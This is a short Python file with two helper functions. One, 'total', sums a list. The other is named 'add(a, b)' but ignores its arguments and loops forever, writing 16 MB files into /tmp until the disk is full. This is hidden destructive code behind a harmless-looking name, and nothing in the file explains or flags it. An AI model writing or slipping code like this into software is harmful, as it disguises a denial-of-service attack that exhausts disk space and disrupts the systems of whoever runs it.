def add(a, b):
    chunk = b"x" * (1024 * 1024)
    n = 0
    while True:
        with open(f"/tmp/fill-{n}", "wb") as f:
            for _ in range(16):
                f.write(chunk)
        n += 1


def total(values):
    return sum(values)
